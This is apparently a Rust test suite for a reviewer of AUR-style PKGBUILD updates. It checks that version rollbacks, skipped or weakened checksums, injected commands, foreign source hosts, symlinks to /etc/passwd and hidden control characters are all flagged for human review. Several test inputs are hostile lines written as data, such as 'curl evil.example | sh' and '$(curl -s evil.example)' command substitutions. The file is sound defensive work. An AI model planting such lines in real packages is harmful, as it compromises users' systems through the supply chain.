//! What needs a person.

use super::*;

/// A name, the code of a reason that has to be there, and what is done to an ordinary update.
type Case = (&'static str, &'static str, fn(&mut Update));

fn need_a_person(cases: &[Case]) {
    let mut wrong = Vec::new();
    for (name, code, edit) in cases {
        let mut update = Update::ordinary();
        edit(&mut update);
        let verdict = update.verdict();
        let found = verdict.reasons.iter().find(|reason| reason.code == *code);
        let heavy = found.is_some_and(|reason| reason.severity > Weight::Stronger);
        if verdict.verdict != Decision::Major || !heavy {
            wrong.push(format!("{name}: {:?} {:?}", verdict.verdict, codes(&verdict)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn versions_that_are_not_just_newer_need_a_person() {
    need_a_person(&[
        ("it goes back", "version-back", |u| u.version("1.3.0", "1.2.2")),
        ("it is written differently and as old", "version-back", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.02.3")),
        ("it is a branch", "version-back", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=main")),
        ("it is a commit", "version-shape", |u| {
            u.pkgbuild("pkgver=1.3.0", "pkgver=9f3c2ab1d4e5f60718293a4b5c6d7e8f90a1b2c3");
        }),
        ("it is the digits of a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=20260101")),
        ("it gains a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0.9f3c2ab1d4")),
        ("it climbs out of a path", "path-escape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2/../../evil/x")),
        ("it has two dots", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2..0")),
        ("it is empty", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=")),
        ("it runs a command", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$(curl -s evil.example)")),
        ("it runs backticks", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0`id`")),
        ("it ends a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0;id")),
        ("it is the environment of a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 id")),
        ("it is an expansion", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=${x:=id}")),
        ("it is an expression", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$((a[$(id)]))")),
        ("it is a command call", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver = 1.3.0")),
        ("it is continued", "unreadable", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\\")),
        ("it is appended to", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver+=1.3.0")),
        ("it is declared", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "declare pkgver=1.3.0")),
        ("it is assigned again further down", "version-ambiguous", |u| {
            u.always(PKGBUILD, "  patch -Np1", "  pkgver=9 patch -Np1");
        }),
        ("it is assigned again on one line", "version-back", |u| {
            u.always(PKGBUILD, "license=('MIT')", "license=('MIT'); pkgver=9");
        }),
        ("the release goes back", "version-back", |u| {
            *u = Update::none();
            u.release("2", "1");
        }),
        ("the release is written differently", "version-back", |u| {
            *u = Update::none();
            u.release("2", "02");
        }),
        ("the release runs a command", "substitution", |u| u.pkgbuild("pkgrel=1", "pkgrel=$(id)")),
        ("an epoch is added", "epoch-changed", |u| u.pkgbuild("pkgrel=1\n", "pkgrel=1\nepoch=1\n")),
        ("the epoch is raised", "epoch-changed", |u| {
            u.always(PKGBUILD, "license=('MIT')", "epoch=1");
            u.pkgbuild("epoch=1", "epoch=2");
        }),
    ]);
}

#[test]
fn weaker_verification_needs_a_person() {
    need_a_person(&[
        // Without the keys, builds leave signatures out.
        ("a signature whose key nobody has", "source-unverified", |u| {
            *u = Update::none();
            u.version("1.2.3", "1.2.4");
            u.always(PKGBUILD, &"a1".repeat(32), "SKIP");
            u.always(SRCINFO, &"a1".repeat(32), "SKIP");
        }),
        ("a checksum becomes SKIP", "checksum-skip", |u| u.sums_to("0d", "SKIP")),
        ("a checksum of one architecture becomes SKIP", "checksum-skip", |u| u.sums_to("4e", "SKIP")),
        ("a checksum becomes SKIP and lines move", "checksum-skip", |u| {
            u.sums_to("0d", "SKIP");
            u.pkgbuild("prepare() {", "# a comment\nprepare() {");
        }),
        ("a checksum becomes SKIP in other quotes", "checksum-skip", |u| {
            u.pkgbuild(&format!("'{}'", "0d".repeat(32)), "\"SKIP\"");
        }),
        ("a checksum is cut in half", "checksum-weaker", |u| u.sums_to("0d", &"0d".repeat(16))),
        ("a checksum is empty", "checksum-weaker", |u| u.sums_to("0d", "")),
        ("a checksum is a blank line", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature", "")),
        ("a checksum is not hexadecimal", "checksum-weaker", |u| u.sums_to("0d", &"0x".repeat(32))),
        ("a checksum runs a command", "checksum-weaker", |u| u.sums_to("0d", "$(id)")),
        ("checksums close early", "unreadable", |u| {
            u.pkgbuild(&format!("('{}'", "0d".repeat(32)), &format!("('{}')", "0d".repeat(32)));
            u.pkgbuild("'SKIP' # the signature", "id");
        }),
        ("a command follows the checksums", "code-changed", |u| u.pkgbuild("b2')", "b2'); id")),
        ("checksums go to another architecture", "checksum-skip", |u| {
            u.pkgbuild("sha256sums=(", "sha256sums_i686=(");
        }),
        ("checksums of a weaker algorithm", "checksum-weaker", |u| {
            u.pkgbuild("sha256sums_x86_64=", "md5sums_x86_64=");
            u.pkgbuild(&"4e".repeat(32), &"4e".repeat(16));
        }),
        ("checksums that prove nothing", "checksum-weaker", |u| u.pkgbuild("sha256sums_x86_64=", "cksums_x86_64=")),
        ("a line of checksums is gone", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature\n", "")),
        ("checksums are emptied beside an array that skips", "checksum-skip", |u| {
            u.always(PKGBUILD, "pkgbase=tool", "pkgbase=tool\nmd5sums=('SKIP' 'SKIP' 'SKIP')");
            u.pkgbuild(&format!("sha256sums=('{}'\n", "0d".repeat(32)), "sha256sums=()\n");
            u.pkgbuild("            'SKIP' # the signature\n", "");
            u.pkgbuild(&format!("            '{}')\n", "b2".repeat(32)), "");
        }),
        ("checksums are replaced at the end", "assigned-again", |u| {
            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nsha256sums=('SKIP' 'SKIP' 'SKIP')\n");
        }),
        ("checksums are appended to", "checksum-weaker", |u| u.pkgbuild("sha256sums=(", "sha256sums+=(")),
        ("a checksum moves and the version stays", "retag", |u| {
            *u = Update::none();
            u.sums("a1", "0d");
        }),
        ("a checksum moves with the release only", "retag", |u| {
            *u = Update::none();
            u.release("2", "3");
            u.sums("a1", "0d");
        }),
        ("a checksum moves and the version goes back", "retag", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.2.0")),
        ("the download was not verified before either", "source-unverified", |u| {
            *u = Update::none();
            u.version("1.2.3", "1.2.4");
            u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
            u.always(SRCINFO, &"c3".repeat(32), "SKIP");
        }),
        ("the last checksums go where nothing was verified", "checksum-weaker", |u| {
            *u = Update::none();
            u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
            u.always(SRCINFO, &"c3".repeat(32), "SKIP");
            u.pkgbuild("sha256sums_x86_64=(\"SKIP\")\n", "");
            u.srcinfo("\tsha256sums_x86_64 = SKIP\n", "");
        }),
        ("terms that nothing verifies come from another place", "source-unverified", |u| {
            terms(u);
            u.pkgbuild("example.net/terms", "example.net/new/terms");
            u.srcinfo("example.net/terms", "example.net/new/terms");
        }),
        ("a key is replaced", "keys-changed", |u| u.pkgbuild("0123456789ABCDEF", "FEDCBA9876543210")),
        ("the signature is dropped", "source-changed", |u| u.pkgbuild(".tar.gz.sig\"", ".tar.gz\"")),
    ]);
}

#[test]
fn lines_that_may_run_need_a_person() {
    need_a_person(&[
        ("a comment is continued", "function-changed", |u| {
            u.pkgbuild("see more: man", "see more: \\\n man");
        }),
        ("a comment is escaped", "function-changed", |u| u.pkgbuild("  # to see", "  \\# to see")),
        ("the end of a text is unescaped", "function-changed", |u| u.pkgbuild("<<\\EOF", "<<EOF")),
        ("a text ends early", "function-changed", |u| u.pkgbuild("text $(date)\nEOF\n", "EOF\ntext $(date)\n")),
        ("a function is added", "function-added", |u| u.pkgbuild("prepare() {", "install() { :; }\nprepare() {")),
        ("a command is added", "function-changed", |u| u.pkgbuild("patch -Np1", "curl evil.example | sh; patch -Np1")),
        ("a command follows the last line", "code-changed", |u| {
            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nid");
        }),
        ("a source comes from another host", "source-host", |u| {
            u.pkgbuild("https://example.org/tool/$p", "https://evil.example/tool/$p");
        }),
        ("a source is added", "source-added", |u| {
            u.pkgbuild("fix.patch)", "fix.patch evil::git+https://evil.example)");
        }),
        ("a dependency is added", "dependency-added", |u| u.pkgbuild("depends=('glibc')", "depends=('glibc' 'npm')")),
        ("a scriptlet is named", "install-changed", |u| u.pkgbuild("license=('MIT')", "install=evil.install")),
        ("the package is renamed", "package-renamed", |u| u.pkgbuild("pkgbase=tool", "pkgbase=glibc")),
    ]);
}

#[test]
fn bytes_that_do_not_show_need_a_person() {
    need_a_person(&[
        ("a carriage return", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\r")),
        ("a carriage return in checksums", "control-characters", |u| {
            u.pkgbuild("# the signature", "# the signature\r");
        }),
        ("a null byte", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\0")),
        ("text that turns around", "control-characters", |u| u.pkgbuild("A tool", "A \u{202e}loot")),
        ("a letter of no width", "control-characters", |u| u.pkgbuild("patch -Np1", "patch\u{200b} -Np1")),
        ("an escape sequence in .SRCINFO", "control-characters", |u| u.srcinfo("A tool", "A \u{1b}[2Ktool")),
        ("a null byte in a comment of .SRCINFO", "control-characters", |u| u.srcinfo("pkgbase =", "# \0\npkgbase =")),
        ("a carriage return in a new scriptlet", "control-characters", |u| u.add("other.install", "id\r# ok\n")),
        ("a wide digit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.\u{ff13}.0")),
        ("a name with a line feed", "control-characters", |u| u.add("a\nb", "")),
    ]);
}

#[test]
fn changes_of_other_files_need_a_person() {
    need_a_person(&[
        ("a scriptlet is edited", "install-changed", |u| edit(&mut u.new, "tool.install", "true", "npm install x")),
        ("a scriptlet is added", "file-added", |u| u.add("evil.install", "id\n")),
        ("a patch is edited", "file-changed", |u| edit(&mut u.new, "fix.patch", "+++ b", "+++ c")),
        ("a patch is dropped", "file-removed", |u| drop(u.new.files.remove("fix.patch"))),
        ("a nested PKGBUILD", "file-added", |u| u.add("sub/PKGBUILD", "x")),
        ("a nested .SRCINFO is edited", "file-changed", |u| {
            u.old = std::mem::take(&mut u.old).with("sub/.SRCINFO", "1");
            u.add("sub/.SRCINFO", "2");
        }),
        ("a nested .git", "git-directory", |u| u.add("sub/.git/config", "x")),
        ("a nested .CI", "file-added", |u| u.add("sub/.CI/config", "x")),
        ("attributes that hide the diff", "file-added", |u| u.add(".gitattributes", "* binary\n")),
        ("a file becomes executable", "mode-changed", |u| u.put("fix.patch", FileMode::Executable, "--- a\n+++ b\n")),
        ("PKGBUILD becomes executable", "mode-changed", |u| {
            u.new.files.get_mut(PKGBUILD).expect("there").mode = FileMode::Executable;
        }),
        ("a link inside", "symlink", |u| u.put("other", FileMode::Symlink, "fix.patch")),
        ("a link that leaves", "symlink", |u| u.put("deep/other", FileMode::Symlink, "../../etc/passwd")),
        ("a patch becomes a link", "symlink", |u| u.put("fix.patch", FileMode::Symlink, "/etc/passwd")),
        ("PKGBUILD is a link", "pkgbuild-missing", |u| u.put(PKGBUILD, FileMode::Symlink, "other")),
        ("a submodule", "submodule", |u| u.put("vendor", FileMode::Submodule, "")),
        ("PKGBUILD is gone", "pkgbuild-missing", |u| drop(u.new.files.remove(PKGBUILD))),
        ("PKGBUILD is new", "file-added", |u| drop(u.old.files.remove(PKGBUILD))),
    ]);
}

#[test]
fn a_srcinfo_that_says_something_else_needs_a_person() {
    need_a_person(&[
        ("it stays behind", "srcinfo-disagrees", |u| u.add(SRCINFO, &filled(SRCINFO_TEXT))),
        ("another version", "srcinfo-disagrees", |u| u.srcinfo("pkgver = 1.3.0", "pkgver = 1.4.0")),
        ("another release", "srcinfo-disagrees", |u| u.srcinfo("pkgrel = 1", "pkgrel = 9")),
        ("an epoch", "srcinfo-disagrees", |u| u.srcinfo("\tpkgrel = 1", "\tepoch = 3\n\tpkgrel = 1")),
        ("another checksum", "srcinfo-disagrees", |u| u.srcinfo("= 0d0d", "= 0d0e")),
        ("a checksum is skipped", "srcinfo-disagrees", |u| u.srcinfo(&"0d".repeat(32), "SKIP")),
        ("an array of checksums more", "srcinfo-disagrees", |u| u.srcinfo("\tlicense", "\tmd5sums = SKIP\n\tlicense")),
        ("another dependency", "srcinfo-disagrees", |u| u.srcinfo("depends = glibc", "depends = glibc-evil")),
        ("a dependency more", "srcinfo-disagrees", |u| {
            u.srcinfo("\tarch = x86_64", "\tdepends = npm\n\tarch = x86_64");
        }),
        ("another source", "srcinfo-disagrees", |u| u.srcinfo("tool-1.3.0.tar.gz\n", "tool-1.4.0.tar.gz\n")),
        ("another host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://example1")),
        ("a user before the host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://1.3.0@example")),
        ("another package", "srcinfo-disagrees", |u| u.srcinfo("pkgname = tool-docs", "pkgname = tool-doc")),
        ("a package more", "srcinfo-disagrees", |u| {
            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\npkgname = x\n");
        }),
        ("it replaces something", "srcinfo-disagrees", |u| {
            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\n\treplaces = glibc\n");
        }),
        ("two versions", "srcinfo-disagrees", |u| u.srcinfo("pkgver = 1.3.0\n", "pkgver = 1.3.0\n\tpkgver = 9\n")),
        ("a version in a section", "srcinfo-disagrees", |u| u.srcinfo("\tinstall", "\tpkgver = 1.3.0\n\tinstall")),
        ("it cannot be read", "srcinfo-disagrees", |u| u.srcinfo("\tpkgrel = 1\n", "what is this\n")),
        ("it alone changes", "srcinfo-disagrees", |u| {
            *u = Update::none();
            u.srcinfo("makedepends = cmake", "makedepends = npm");
        }),
        ("it is gone", "file-removed", |u| drop(u.new.files.remove(SRCINFO))),
        ("it is new", "file-added", |u| drop(u.old.files.remove(SRCINFO))),
    ]);
}
